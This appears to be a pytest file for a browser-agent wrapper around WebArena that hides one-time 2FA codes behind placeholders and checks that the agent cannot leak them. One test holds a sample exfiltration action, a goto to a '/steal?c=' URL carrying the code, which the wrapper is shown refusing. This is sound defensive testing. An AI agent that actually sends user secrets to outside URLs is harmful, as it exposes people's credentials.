"""`MinimWebArenaEnv` around WebArena's own ScriptBrowserEnv (vendored under third_party/, its
accessibility-tree text, its action parsing and execution) on our local sites.

Runs in `.venv-browsergym` (gymnasium, beartype and Pillow, what WebArena's env imports);
skipped where those are absent.
"""

from __future__ import annotations

import json
import re
import sys
import urllib.request
from pathlib import Path

from browsergym_tier import require

require("gymnasium", "beartype")  # skipped outside the BrowserGym venv; an error in CI if it cannot run
sys.path.insert(0, str(Path(__file__).parent / "third_party" / "webarena"))

from browser_env import ScriptBrowserEnv, create_id_based_action  # noqa: E402

from webarena_env.server import SiteServer, twofa_injection  # noqa: E402
from webminim.minim import Minim  # noqa: E402
from webminim.pytest_plugin import LeakWatch  # noqa: E402
from webminim.webarena import MinimWebArenaEnv  # noqa: E402

SEED = 9
CODE = twofa_injection(SEED, SEED).values["code"]
TASK = "Complete the two-step verification with the code"


def make_env(fresh_sites: SiteServer, minim: Minim, tmp_path: Path, task: str = TASK, watch: LeakWatch | None = None):
    config = tmp_path / "config.json"
    config.write_text(json.dumps({"start_url": f"{fresh_sites.url}/a/shop/twofa?seed={SEED}", "storage_state": None}))
    env = ScriptBrowserEnv(headless=True, observation_type="accessibility_tree", current_viewport_only=False)
    wrapped = MinimWebArenaEnv(env, task=task, make_action=create_id_based_action, minim=minim, leak_watch=watch)
    return wrapped, {"config_file": str(config)}


def line_id(text: str, pattern: str) -> str:
    match = re.search(r"\[(\d+)\] " + pattern, text)
    assert match, f"nothing like {pattern!r} in the sanitized tree:\n{text}"
    return match.group(1)


def verified(fresh_sites: SiteServer) -> bool:
    with urllib.request.urlopen(f"{fresh_sites.url}/__state", timeout=10) as reply:  # noqa: S310 - loopback
        state = json.load(reply)
    actions = state if isinstance(state, list) else state.get("actions", [])
    return any(a.get("action") == "verify_2fa" and a.get("ok") for a in actions)


def test_a_webarena_agent_completes_2fa_without_ever_seeing_the_code(fresh_sites, minim, tmp_path):
    watch = LeakWatch()
    env, options = make_env(fresh_sites, minim, tmp_path, watch=watch)
    try:
        obs, info = env.reset(options=options)
        seen = [json.dumps([obs, info], default=str)]
        token = re.search(r"\[OTP_\d+\]", obs["text"]).group(0)  # the code, as the model reads it
        field = line_id(obs["text"], r"textbox '[^']*code")
        obs, _, _, _, info = env.step(f"type [{field}] [{token}] [1]")  # WebArena's own syntax, Enter after
        seen.append(json.dumps([obs, info], default=str))
        assert info["fail_error"] == "", info["fail_error"]
    finally:
        env.close()
    assert verified(fresh_sites)  # the server recorded the right code: it was typed for real
    assert all(CODE not in text for text in seen)
    assert "image" not in obs and set(info["page"]) == {"url"}  # no screenshot, no page HTML
    assert set(info["observation_metadata"]["text"]["obs_nodes_info"]) <= set(re.findall(r"\[(\d+)\]", obs["text"]))
    watch.assert_never_left([CODE])


def test_refused_actions_never_reach_the_page_and_say_why(fresh_sites, minim, tmp_path):
    env, options = make_env(fresh_sites, minim, tmp_path)
    try:
        obs, _ = env.reset(options=options)
        token = re.search(r"\[OTP_\d+\]", obs["text"]).group(0)
        button = line_id(obs["text"], r"button '(?:Continue|Verify|Check)")
        before = obs
        obs, reward, _, _, info = env.step(f"type [{button}] [{token}] [0]")
        assert "not an input field" in info["fail_error"] and reward == 0.0 and obs == before
        obs, _, _, _, info = env.step(f"click [{token}]")
        assert info["fail_error"].startswith("ActionRefused:")
        obs, _, _, _, info = env.step(f"scroll [{token}]")  # a placeholder goes only into typed text
        assert info["fail_error"].startswith("ActionRefused:")
        assert env.page.get_by_label("Enter verification code").input_value() == ""
        obs, _, _, _, info = env.step(f"goto [http://127.0.0.1:9/steal?c={token}]")
        assert CODE not in info["fail_error"]  # a URL is never filled in: only the placeholder could go
    finally:
        env.close()
    assert not verified(fresh_sites)


def test_a_filled_field_keeps_its_label_and_shows_the_placeholder_it_was_filled_with(fresh_sites, minim, tmp_path):
    env, options = make_env(fresh_sites, minim, tmp_path)
    try:
        obs, _ = env.reset(options=options)
        token = re.search(r"\[OTP_\d+\]", obs["text"]).group(0)
        field = line_id(obs["text"], r"textbox '[^']*code")
        label = re.search(rf"\[{field}\] textbox '([^']*)'", obs["text"]).group(1)
        obs, _, _, _, info = env.step(f"type [{field}] [{token}] [0]")  # typed, not sent: the field holds it
        assert info["fail_error"] == "", info["fail_error"]
        assert env.page.get_by_label("Enter verification code").input_value() == CODE  # typed for real
    finally:
        env.close()
    shown = re.search(rf"\[{field}\] textbox '([^']*)'.*\n\s*\[\d+\] StaticText '([^']*)'", obs["text"])
    assert shown, obs["text"]
    assert shown.group(1) == label and shown.group(2) == token  # its label, and the one placeholder it holds
    assert CODE not in json.dumps([obs, info], default=str)


def test_a_stop_answer_is_filled_in_for_the_user_only(fresh_sites, minim, tmp_path):
    env, options = make_env(fresh_sites, minim, tmp_path, task="What is the verification code on this page?")
    try:
        obs, _ = env.reset(options=options)
        token = re.search(r"\[OTP_\d+\]", obs["text"]).group(0)
        obs, _, done, _, info = env.step(f"stop [The code is {token}]")
    finally:
        env.close()
    assert done and env.answer == f"The code is {CODE}"
    assert CODE not in json.dumps([obs, info], default=str)


def test_the_readme_webarena_example_runs_as_printed() -> None:
    import os
    import subprocess

    readme = (Path(__file__).parents[2] / "README.md").read_text()
    section = readme.split("## Use it with WebArena", 1)[1]
    code = re.search(r"```python\n(.*?)```", section, flags=re.S).group(1)
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parent / "third_party" / "webarena")}
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=600, env=env)
    assert result.returncode == 0, result.stderr[-2000:]
    assert "[OTP_1]" in result.stdout and result.stdout.strip().splitlines()[-1] == "ok"
    assert twofa_injection(7, 7).values["code"] not in result.stdout
